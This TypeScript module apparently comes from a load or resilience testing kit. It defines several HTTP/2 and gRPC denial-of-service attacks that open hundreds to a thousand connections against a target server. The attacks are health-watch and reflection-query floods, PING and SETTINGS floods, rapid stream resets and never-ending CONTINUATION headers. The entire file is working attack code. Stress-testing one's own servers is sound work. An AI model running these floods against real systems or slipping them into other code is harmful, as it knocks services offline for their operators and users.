import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Target } from "./kit/attack.ts";
import { callFields, FLAG, FRAME, frame, literal, OPENING, SEND_MESSAGE } from "./kit/http2-frames.ts";
import { closed, deadline, openSockets, send } from "./kit/sockets.ts";

const CONNECTIONS = 1_000;
const CALLS = 16;
const WATCH = "/grpc.health.v1.Health/Watch";
const REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

const message = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, 0, bytes.length]), bytes]);
const field = (number: number, text: string) =>
  Buffer.concat([Buffer.from([number * 8 + 2, text.length]), Buffer.from(text)]);

/** Sends to each of many connections, and opens those again that are closed. */
async function flood(
  target: Target,
  bytes: (round: number) => Buffer,
  pauseMs: number,
  { rounds = Number.POSITIVE_INFINITY, connections = CONNECTIONS } = {},
): Promise<void> {
  const isOver = deadline(target);
  const attack = async () => {
    while (!isOver()) {
      const [socket] = await openSockets(target.grpcPort, 1, true);
      if (socket === undefined) continue;
      socket.resume();
      await send(target, socket, OPENING);
      for (let round = 0; round < rounds && !isOver(); round++) {
        if (!(await send(target, socket, bytes(round)))) break;
        await delay(pauseMs);
      }
      if (Number.isFinite(rounds)) await closed(target, socket);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, attack));
}

const headers = (path: string, stream: number, more?: Record<string, string>) =>
  frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, callFields(path, more));

export const healthWatches: Attack = {
  name: "health-watches",
  what: `${CONNECTIONS} connections from 250 addresses watch the health of the server, ${CALLS} times each`,
  run(target) {
    const calls = Array.from({ length: CALLS }, (_, at) =>
      Buffer.concat([
        headers(WATCH, 1 + 2 * at),
        frame(FRAME.DATA, FLAG.END_STREAM, 1 + 2 * at, message(Buffer.alloc(0))),
      ]),
    );
    return flood(target, () => Buffer.concat(calls), 0, { rounds: 1 });
  },
};

function reflectionAttack(name: string, what: string, question: Buffer, perPiece: number, pauseMs: number): Attack {
  return {
    name,
    what,
    run(target) {
      const questions = Buffer.concat(Array.from({ length: perPiece }, () => message(question)));
      return flood(
        target,
        (round) => {
          const open = round === 0 ? Array.from({ length: CALLS }, (_, at) => headers(REFLECTION, 1 + 2 * at)) : [];
          const asked = Array.from({ length: CALLS }, (_, at) => frame(FRAME.DATA, 0, 1 + 2 * at, questions));
          const windows = round === 0 ? [] : [windowUpdate(0, 1_000_000)];
          return Buffer.concat([...open, ...windows, ...asked]);
        },
        pauseMs,
        { connections: 200 },
      );
    },
  };
}

function windowUpdate(stream: number, bytes: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(bytes);
  return frame(FRAME.WINDOW_UPDATE, 0, stream, payload);
}

export const reflectionQuestions = reflectionAttack(
  "reflection-questions",
  `200 connections ask for descriptions of services as fast as they may`,
  field(4, "lf.a2a.v1.A2AService"),
  40,
  250,
);
export const reflectionErrors = reflectionAttack(
  "reflection-errors",
  `200 connections ask for what is not there`,
  field(4, "x"),
  200,
  250,
);

const PING = frame(FRAME.PING, 0, 0, Buffer.alloc(8));
const SETTINGS = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));

export const pings: Attack = {
  name: "pings",
  what: `${CONNECTIONS} connections from 250 addresses send pings within what is allowed, and more`,
  run: (target) => flood(target, () => Buffer.concat(Array.from({ length: 1_900 }, () => PING)), 250),
};

export const settings: Attack = {
  name: "settings",
  what: `${CONNECTIONS} connections from 250 addresses send settings`,
  run: (target) => flood(target, () => Buffer.concat(Array.from({ length: 2_000 }, () => SETTINGS)), 250),
};

export const rapidResets: Attack = {
  name: "rapid-resets",
  what: `${CONNECTIONS} connections from 250 addresses open calls and reset them`,
  run(target) {
    const cancel = Buffer.from([0, 0, 0, 8]);
    return flood(
      target,
      (round) =>
        Buffer.concat(
          Array.from({ length: 100 }, (_, at) => {
            const stream = 1 + 2 * (round * 100 + at);
            return Buffer.concat([headers(SEND_MESSAGE, stream), frame(FRAME.RST_STREAM, 0, stream, cancel)]);
          }),
        ),
      50,
    );
  },
};

export const continuations: Attack = {
  name: "continuations",
  what: `${CONNECTIONS} connections from 250 addresses send headers that never end`,
  run(target) {
    const piece = frame(FRAME.CONTINUATION, 0, 1, literal("x-filler", "f".repeat(4_000)));
    return flood(target, (round) => (round === 0 ? frame(FRAME.HEADERS, 0, 1, callFields(SEND_MESSAGE)) : piece), 20);
  },
};
